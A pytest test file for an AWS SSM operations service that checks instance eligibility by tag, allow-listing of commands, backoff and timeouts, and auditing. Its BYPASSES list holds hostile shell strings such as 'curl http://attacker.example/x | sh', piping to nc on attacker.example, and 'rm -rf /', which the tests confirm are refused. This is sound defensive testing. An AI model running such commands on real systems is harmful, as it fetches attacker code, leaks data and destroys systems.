"""The ops service: vetting, targeting, fan-out, waiting, errors — and one audit per call."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ops_api.domain.errors import (
    CommandNotAllowedError,
    InstanceNotEligibleError,
    InvalidRequestError,
    NotFoundError,
    OpsError,
    SsmFailureError,
    WaitTimeoutError,
)
from ops_api.domain.models import RunCommandsBody, StartAssociationBody
from ops_api.domain.ports import SsmDeniedError, SsmUnavailableError, TargetNotManagedError
from ops_api.domain.service import OpsService, refused_commands
from ops_api.settings import DEFAULT_COMMANDS, AllowEntry, OpsSettings
from selfservice_contracts.events import AnyEvent, IamCaller, OpsCommandExecuted
from selfservice_runtime.publisher import InMemoryPublisher, PublishError
from tests.ops_api.fakes import FakeClock, FakeCommands, FakeInstances

CALLER = IamCaller(user_arn="arn:aws:iam::123456789012:user/jane", account_id="123456789012")
WEB = "i-0000000000000001a"
ASSOCIATION = "0f2c8a0e-1b2c-4d5e-8f90-123456789abc"


class Harness:
    def __init__(self, settings: OpsSettings | None = None) -> None:
        self.instances = FakeInstances()
        self.commands = FakeCommands()
        self.publisher = InMemoryPublisher()
        self.clock = FakeClock()
        self.service = OpsService(
            settings=settings or OpsSettings(),
            instances=self.instances,
            commands=self.commands,
            publisher=self.publisher,
            allow_tag=("SSMRunAllowed", "true"),
            clock=self.clock,
            sleep=self.clock.sleep,
        )

    def run(self, time_left: float = 28.0, **body: Any) -> dict[str, Any]:
        reply = self.service.run_commands(
            RunCommandsBody.model_validate(body), CALLER, time_left=time_left
        )
        assert reply.status == 200
        return reply.body

    def refusal(self, error: type[OpsError], **body: Any) -> OpsError:
        with pytest.raises(error) as caught:
            self.service.run_commands(RunCommandsBody.model_validate(body), CALLER, time_left=28)
        return caught.value

    def audits(self) -> list[OpsCommandExecuted]:
        events: list[AnyEvent] = self.publisher.events
        data = [e.data for e in events]
        assert all(isinstance(d, OpsCommandExecuted) for d in data)
        return data  # type: ignore[return-value]


@pytest.fixture
def ops() -> Harness:
    return Harness()


def test_one_tagged_instance_runs_the_default_diagnostics(ops: Harness) -> None:
    ops.instances.add(WEB)
    body = ops.run(instance_id=WEB)
    assert body["commands"] == list(DEFAULT_COMMANDS)
    assert [r["instance_id"] for r in body["results"]] == [WEB]
    assert body["results"][0]["stdout"] == f"ran on {WEB}\n"
    assert body["summary"] == {"Success": 1}
    (sent,) = ops.commands.sent
    assert sent["document"] == "AWS-RunShellScript"
    assert sent["instance_ids"] == [WEB]
    assert sent["execution_timeout"] == 600
    (audit,) = ops.audits()
    assert audit.operation == "run-commands"
    assert audit.caller == CALLER
    assert audit.targets.instance_ids == [WEB]
    assert audit.commands == list(DEFAULT_COMMANDS)
    assert audit.document_name == "AWS-RunShellScript"
    assert audit.command_id == sent["command_id"]
    assert (audit.outcome, audit.status_code) == ("succeeded", 200)


def test_fan_out_over_tagged_instances_returns_one_result_each(ops: Harness) -> None:
    web = [f"i-00000000000000{n:02x}" for n in range(3)]
    for instance_id in web:
        ops.instances.add(instance_id, tags={"Team": "web", "SSMRunAllowed": "true"})
    ops.instances.add("i-0000000000000aaa", tags={"Team": "web"})  # not allowed
    ops.instances.add("i-0000000000000bbb", tags={"Team": "db", "SSMRunAllowed": "true"})
    ops.instances.add(
        "i-0000000000000ccc", tags={"Team": "web", "SSMRunAllowed": "true"}, state="stopped"
    )
    body = ops.run(tags={"Team": "web"}, commands=["uptime", "hostname"])
    assert sorted(r["instance_id"] for r in body["results"]) == web
    assert {r["status"] for r in body["results"]} == {"Success"}
    assert [s["instance_ids"] for s in ops.commands.sent] == [web]
    assert ops.audits()[0].targets.instance_ids == web
    assert ops.audits()[0].targets.tags == {"Team": "web"}


def test_windows_targets_get_the_powershell_document(ops: Harness) -> None:
    ops.instances.add("i-00000000000000a1", tags={"Team": "x", "SSMRunAllowed": "true"})
    ops.instances.add(
        "i-00000000000000a2", tags={"Team": "x", "SSMRunAllowed": "true"}, platform="windows"
    )
    body = ops.run(tags={"Team": "x"}, commands=["hostname"])
    assert {s["document"]: s["instance_ids"] for s in ops.commands.sent} == {
        "AWS-RunShellScript": ["i-00000000000000a1"],
        "AWS-RunPowerShellScript": ["i-00000000000000a2"],
    }
    assert len(body["results"]) == 2
    assert len(body["command_ids"]) == 2


@pytest.mark.parametrize(
    ("tags", "state", "message"),
    [
        ({}, "running", "is not tagged SSMRunAllowed=true"),
        ({"SSMRunAllowed": "false"}, "running", "is not tagged SSMRunAllowed=true"),
        ({"ssmrunallowed": "true"}, "running", "is not tagged SSMRunAllowed=true"),
        ({"SSMRunAllowed": "true"}, "stopped", "is stopped, not running"),
    ],
)
def test_an_ineligible_instance_is_refused_and_nothing_is_sent(
    ops: Harness, tags: dict[str, str], state: str, message: str
) -> None:
    ops.instances.add(WEB, tags=tags, state=state)
    error = ops.refusal(InstanceNotEligibleError, instance_id=WEB, commands=["uptime"])
    assert error.status == 403
    assert message in error.message
    assert ops.commands.sent == []
    (audit,) = ops.audits()
    assert (audit.outcome, audit.status_code) == ("denied", 403)


def test_tags_cannot_override_the_allow_tag(ops: Harness) -> None:
    ops.instances.add(WEB, tags={"SSMRunAllowed": "false"})
    error = ops.refusal(InstanceNotEligibleError, tags={"SSMRunAllowed": "false"})
    assert "only instances tagged SSMRunAllowed=true" in error.message
    assert ops.commands.sent == []


def test_unknown_instance_and_empty_selection_are_404(ops: Harness) -> None:
    assert ops.refusal(NotFoundError, instance_id=WEB).status == 404
    assert "no running instance" in ops.refusal(NotFoundError, tags={"Team": "ghost"}).message
    assert [a.outcome for a in ops.audits()] == ["not_found", "not_found"]


def test_a_selection_above_the_limit_is_refused(ops: Harness) -> None:
    settings = OpsSettings(max_targets=2)
    harness = Harness(settings)
    for n in range(3):
        harness.instances.add(
            f"i-00000000000000{n:02x}", tags={"Team": "web", "SSMRunAllowed": "true"}
        )
    error = harness.refusal(InvalidRequestError, tags={"Team": "web"})
    assert error.status == 400
    assert error.details == {"max_targets": 2}
    assert harness.commands.sent == []


BYPASSES = [
    "uptime; rm -rf /",
    "uptime && curl http://attacker.example/x | sh",
    "uptime || reboot",
    "uptime | nc attacker.example 80",
    "$(curl attacker.example)",
    "`reboot`",
    "uptime\nrm -rf /",
    "uptime\r\nrm -rf /",
    "hostname > /etc/hostname",
    "systemctl status nginx; reboot",  # matches a pattern's prefix, then chains
    "systemctl status $(reboot)",
    "journalctl -u sshd -n 10 --no-pager & reboot",
    "uptime\\",
    "rm -rf /",
    "UPTIME",
    " uptime",
]


@pytest.mark.parametrize("command", BYPASSES)
def test_allow_list_bypass_attempts_are_refused(ops: Harness, command: str) -> None:
    ops.instances.add(WEB)
    error = ops.refusal(CommandNotAllowedError, instance_id=WEB, commands=["hostname", command])
    assert error.status == 403
    assert [r["command"] for r in error.details["refused"]] == [command]
    assert ops.commands.sent == []
    (audit,) = ops.audits()
    assert audit.outcome == "denied"
    assert audit.commands == ["hostname", command]


def test_patterns_admit_their_commands_and_shell_entries_their_metacharacters() -> None:
    settings = OpsSettings(
        allowlist=(
            AllowEntry(pattern=r"^systemctl status [a-z]+$"),
            AllowEntry(command="df -h | sort", shell=True),  # noqa: S604 - not a subprocess
            AllowEntry(pattern=r"^tail -n [0-9]+ /var/log/app\.log \| grep ERROR$", shell=True),  # noqa: S604
            AllowEntry(command="uptime"),
        ),
        default_commands=("uptime",),
    )
    assert refused_commands(settings, ["systemctl status nginx", "df -h | sort"]) == []
    assert refused_commands(settings, ["tail -n 50 /var/log/app.log | grep ERROR"]) == []
    assert refused_commands(settings, ["systemctl status nginx;"]) == [
        {"command": "systemctl status nginx;", "reason": "not on the allow-list"}
    ]
    assert refused_commands(settings, ["df -h | sort; reboot"])[0]["reason"] == (
        "not on the allow-list"
    )


def test_a_pattern_without_shell_still_refuses_metacharacters() -> None:
    settings = OpsSettings(
        allowlist=(AllowEntry(pattern=r"^echo .+$"), AllowEntry(command="uptime")),
        default_commands=("uptime",),
    )
    (refusal,) = refused_commands(settings, ["echo hi; reboot"])
    assert refusal["reason"] == "shell metacharacters: ';'"


@given(
    prefix=st.sampled_from(["uptime", "hostname", "df -h", "systemctl status nginx"]),
    metacharacter=st.sampled_from([";", "&", "|", "`", "$", "<", ">", "\n", "\r", "\\", "\x00"]),
    suffix=st.text(max_size=20),
)
def test_no_default_allow_list_command_survives_a_metacharacter(
    prefix: str, metacharacter: str, suffix: str
) -> None:
    command = prefix + metacharacter + suffix
    assert refused_commands(OpsSettings(), [command]) != []


def test_invocation_does_not_exist_is_tolerated_with_exponential_backoff(ops: Harness) -> None:
    ops.instances.add(WEB)
    ops.commands.not_ready = 3
    ops.commands.running = 2
    body = ops.run(instance_id=WEB, commands=["uptime"])
    assert body["summary"] == {"Success": 1}
    assert ops.clock.slept == [0.25, 0.5, 1.0, 2.0, 2.0, 2.0]


def test_a_command_that_outlives_the_wait_gives_504_with_what_is_known(ops: Harness) -> None:
    ops.instances.add("i-00000000000000b1", tags={"Team": "w", "SSMRunAllowed": "true"})
    ops.instances.add("i-00000000000000b2", tags={"Team": "w", "SSMRunAllowed": "true"})
    ops.commands.running = 10_000
    ops.commands.final["i-00000000000000b1"] = ("Success", 0, "", "")
    ops.commands.polls[("00000000-0000-4000-8000-000000000000", "i-00000000000000b1")] = 10_000
    error = ops.refusal(WaitTimeoutError, tags={"Team": "w"}, commands=["uptime"], wait_seconds=5)
    assert error.status == 504
    assert error.details["pending"] == ["i-00000000000000b2"]
    assert [r["instance_id"] for r in error.details["results"]] == ["i-00000000000000b1"]
    assert error.details["command_ids"] == ["00000000-0000-4000-8000-000000000000"]
    assert sum(ops.clock.slept) == pytest.approx(5)
    assert ops.audits()[0].outcome == "timed_out"


def test_the_wait_ends_before_the_lambda_deadline(ops: Harness) -> None:
    ops.instances.add(WEB)
    ops.commands.running = 10_000
    with pytest.raises(WaitTimeoutError):
        ops.service.run_commands(
            RunCommandsBody(instance_id=WEB, commands=["uptime"]), CALLER, time_left=6.0
        )
    assert sum(ops.clock.slept) == pytest.approx(4.0)  # 6 s left minus the 2 s margin


def test_failures_on_instances_are_reported_not_raised(ops: Harness) -> None:
    ops.instances.add("i-00000000000000c1", tags={"T": "x", "SSMRunAllowed": "true"})
    ops.instances.add("i-00000000000000c2", tags={"T": "x", "SSMRunAllowed": "true"})
    ops.commands.final["i-00000000000000c2"] = ("Failed", 3, "", "no such unit\n")
    body = ops.run(tags={"T": "x"}, commands=["uptime"])
    assert body["summary"] == {"Failed": 1, "Success": 1}
    failed = next(r for r in body["results"] if r["status"] == "Failed")
    assert (failed["response_code"], failed["stderr"]) == (3, "no such unit\n")
    assert ops.audits()[0].outcome == "failed"


def test_output_is_truncated_to_the_limit_and_flagged() -> None:
    harness = Harness(OpsSettings(output_limit=100))
    harness.instances.add(WEB)
    harness.commands.final[WEB] = ("Success", 0, "x" * 150, "")
    (result,) = harness.run(instance_id=WEB, commands=["uptime"])["results"]
    assert result["stdout"] == "x" * 100
    assert result["truncated"] is True


@pytest.mark.parametrize(
    ("failure", "error", "status"),
    [
        (TargetNotManagedError("not managed"), InstanceNotEligibleError, 403),
        (SsmDeniedError("AccessDenied"), InstanceNotEligibleError, 403),
        (SsmUnavailableError("ThrottlingException"), SsmFailureError, 502),
    ],
)
def test_ssm_refusals_map_to_precise_statuses(
    ops: Harness,
    monkeypatch: pytest.MonkeyPatch,
    failure: Exception,
    error: type[OpsError],
    status: int,
) -> None:
    ops.instances.add(WEB)

    def refuse(*args: Any, **kwargs: Any) -> str:
        raise failure

    monkeypatch.setattr(ops.commands, "send", refuse)
    assert ops.refusal(error, instance_id=WEB).status == status
    assert ops.audits()[0].status_code == status


def test_get_command_returns_results_and_unknown_ids_are_404(ops: Harness) -> None:
    ops.instances.add(WEB)
    ops.commands.running = 0
    command_id = ops.run(instance_id=WEB, commands=["uptime"])["command_ids"][0]
    reply = ops.service.get_command(command_id, CALLER)
    assert reply.body["complete"] is True
    assert reply.body["results"][0]["stdout"] == f"ran on {WEB}\n"
    with pytest.raises(NotFoundError):
        ops.service.get_command("99999999-0000-4000-8000-000000000000", CALLER)
    assert [a.operation for a in ops.audits()] == ["run-commands", "get-command", "get-command"]
    assert [a.outcome for a in ops.audits()][1:] == ["succeeded", "not_found"]


def _sent_outside_the_api(ops: Harness, instance_ids: list[str]) -> str:
    """Another team's Run Command, sent straight to SSM."""
    return ops.commands.send(
        instance_ids,
        document="AWS-RunShellScript",
        commands=["cat /etc/secret"],
        execution_timeout=60,
        comment="not ours",
        output_s3_bucket=None,
        output_s3_prefix="",
    )


def test_get_command_shows_only_instances_the_api_may_target(ops: Harness) -> None:
    # A command sent outside the API (another team's Run Command) to an untagged instance
    # and to a tagged one: only the tagged instance's result is shown.
    other = "i-0000000000000002b"
    ops.instances.add(WEB)
    ops.instances.add(other, tags={"team": "payments"})
    ops.commands.running = 0
    command_id = _sent_outside_the_api(ops, [WEB, other])
    reply = ops.service.get_command(command_id, CALLER)
    assert [r["instance_id"] for r in reply.body["results"]] == [WEB]
    assert ops.audits()[-1].targets.instance_ids == [WEB]


def test_a_command_on_no_eligible_instance_is_answered_like_an_unknown_id(ops: Harness) -> None:
    other = "i-0000000000000002b"
    ops.instances.add(other, tags={"team": "payments"})
    command_id = _sent_outside_the_api(ops, [other])
    with pytest.raises(NotFoundError, match=f"no command {command_id}"):
        ops.service.get_command(command_id, CALLER)
    assert ops.commands.polls == {}  # its output was never even read
    assert ops.audits()[-1].outcome == "not_found"


def test_start_association_applies_known_ids_and_refuses_unknown_ones(ops: Harness) -> None:
    ops.instances.add(WEB)
    ops.commands.add_association(ASSOCIATION, instance_ids=[WEB])
    reply = ops.service.start_association(
        StartAssociationBody(association_ids=[ASSOCIATION]), CALLER
    )
    assert (reply.status, ops.commands.started) == (202, [[ASSOCIATION]])
    assert reply.body["instance_ids"] == [WEB]
    unknown = "00000000-1111-4222-8333-444444444444"
    with pytest.raises(NotFoundError):
        ops.service.start_association(StartAssociationBody(association_ids=[unknown]), CALLER)
    assert [(a.outcome, a.association_ids) for a in ops.audits()] == [
        ("succeeded", [ASSOCIATION]),
        ("not_found", [unknown]),
    ]
    # The audit records the instances the association reached and what it ran.
    succeeded = ops.audits()[0]
    assert (succeeded.targets.instance_ids, succeeded.commands) == ([WEB], ["uptime"])
    assert succeeded.document_name == "AWS-RunShellScript"


OTHER = "1f2c8a0e-1b2c-4d5e-8f90-123456789abc"
UNTAGGED = "i-0000000000000009f"


def _start_refused(ops: Harness, error: type[OpsError], *ids: str) -> OpsError:
    with pytest.raises(error) as caught:
        ops.service.start_association(StartAssociationBody(association_ids=list(ids)), CALLER)
    assert ops.commands.started == []  # nothing was started
    assert ops.audits()[-1].outcome == "denied"
    return caught.value


def test_an_association_on_an_untagged_instance_is_refused(ops: Harness) -> None:
    ops.instances.add(UNTAGGED, tags={})
    ops.commands.add_association(ASSOCIATION, instance_ids=[UNTAGGED])
    refusal = _start_refused(ops, InstanceNotEligibleError, ASSOCIATION)
    assert refusal.details["instances"] == [
        {"association_id": ASSOCIATION, "instance_id": UNTAGGED}
    ]
    # The legacy single-instance form is checked too.
    ops.commands.add_association(OTHER, instance_id=UNTAGGED)
    _start_refused(ops, InstanceNotEligibleError, OTHER)


def test_an_association_whose_tag_target_reaches_an_untagged_instance_is_refused(
    ops: Harness,
) -> None:
    ops.instances.add(WEB, tags={"SSMRunAllowed": "true", "App": "shop"})
    ops.instances.add(UNTAGGED, tags={"App": "shop"}, state="stopped")
    ops.commands.add_association(ASSOCIATION, tags={"tag:App": ["shop"]})
    refusal = _start_refused(ops, InstanceNotEligibleError, ASSOCIATION)
    assert [i["instance_id"] for i in refusal.details["instances"]] == [UNTAGGED]
    ops.commands.add_association(OTHER, tags={"tag-key": ["App"]})
    _start_refused(ops, InstanceNotEligibleError, OTHER)


def test_a_tag_target_reaching_only_tagged_instances_starts_and_records_them(
    ops: Harness,
) -> None:
    second = "i-0000000000000002b"
    ops.instances.add(WEB, tags={"SSMRunAllowed": "true", "App": "shop"})
    ops.instances.add(second, tags={"SSMRunAllowed": "true", "App": "shop"})
    ops.instances.add(UNTAGGED, tags={"App": "other"})
    ops.commands.add_association(ASSOCIATION, tags={"tag:App": ["shop"]})
    reply = ops.service.start_association(
        StartAssociationBody(association_ids=[ASSOCIATION]), CALLER
    )
    assert reply.status == 202
    assert ops.audits()[-1].targets.instance_ids == [WEB, second]


def test_a_batch_mixing_a_tagged_and_an_untagged_association_starts_none(ops: Harness) -> None:
    ops.instances.add(WEB)
    ops.instances.add(UNTAGGED, tags={})
    ops.commands.add_association(ASSOCIATION, instance_ids=[WEB])
    ops.commands.add_association(OTHER, instance_ids=[UNTAGGED])
    refusal = _start_refused(ops, InstanceNotEligibleError, ASSOCIATION, OTHER)
    assert refusal.details["instances"] == [{"association_id": OTHER, "instance_id": UNTAGGED}]


@pytest.mark.parametrize(
    ("association", "reason"),
    [
        ({"commands": ["rm -rf /"]}, "not on the allow-list"),
        ({"commands": ["uptime", "reboot"]}, "not on the allow-list"),
        ({"document": "AWS-ApplyPatchBaseline"}, "is not one the API runs"),
        ({"parameters": {"extra": ["x"]}}, "not a parameter of AWS-RunShellScript"),
        ({"commands": ["systemctl status {{ssm:unit}}"]}, "parameter reference"),
        ({"parameters": {"executionTimeout": ["999999"]}}, "not a number of seconds up to 600"),
    ],
)
def test_an_association_running_what_the_allow_list_refuses_is_403(
    ops: Harness, association: dict[str, Any], reason: str
) -> None:
    ops.instances.add(WEB)
    ops.commands.add_association(ASSOCIATION, instance_ids=[WEB], **association)
    refusal = _start_refused(ops, CommandNotAllowedError, ASSOCIATION)
    assert refusal.code == "CommandNotAllowed"
    assert reason in refusal.details["refused"][0]["reason"]
    assert refusal.details["refused"][0]["association_id"] == ASSOCIATION


@pytest.mark.parametrize(
    "targets",
    [
        {"instance_ids": ["*"]},
        {"tags": {"resource-groups:Name": ["web"]}},
        {"instance_ids": ["mi-0123456789abcdef0"]},  # not an EC2 instance: its tag is unknown
        {"elsewhere": True, "instance_ids": [WEB]},
    ],
)
def test_targets_the_api_cannot_check_are_refused(ops: Harness, targets: dict[str, Any]) -> None:
    ops.instances.add(WEB)
    ops.commands.add_association(ASSOCIATION, **targets)
    _start_refused(ops, InstanceNotEligibleError, ASSOCIATION)


def test_iam_refusing_an_untagged_association_is_403(ops: Harness) -> None:
    ops.instances.add(WEB)
    ops.commands.add_association(ASSOCIATION, instance_ids=[WEB])

    def denied(association_ids: Sequence[str]) -> None:
        raise SsmDeniedError("not authorized to perform ssm:StartAssociationsOnce")

    ops.commands.start_associations_once = denied  # type: ignore[method-assign]
    with pytest.raises(InstanceNotEligibleError, match="must carry the tag SSMRunAllowed=true"):
        ops.service.start_association(StartAssociationBody(association_ids=[ASSOCIATION]), CALLER)


def test_an_audit_that_cannot_be_published_is_handed_over_not_lost(ops: Harness) -> None:
    kept: list[tuple[OpsCommandExecuted, Exception]] = []

    class Down:
        def publish(self, events: Sequence[AnyEvent]) -> None:
            raise PublishError([(events[0].id, "ServiceUnavailable")])

    ops.instances.add(WEB)
    ops.service.publisher = Down()
    ops.service.on_audit_failure = lambda record, exc: kept.append((record, exc))
    body = ops.run(instance_id=WEB, commands=["uptime"])
    assert body["summary"] == {"Success": 1}
    ((record, error),) = kept
    assert record.outcome == "succeeded"
    assert record.targets.instance_ids == [WEB]
    assert isinstance(error, PublishError)
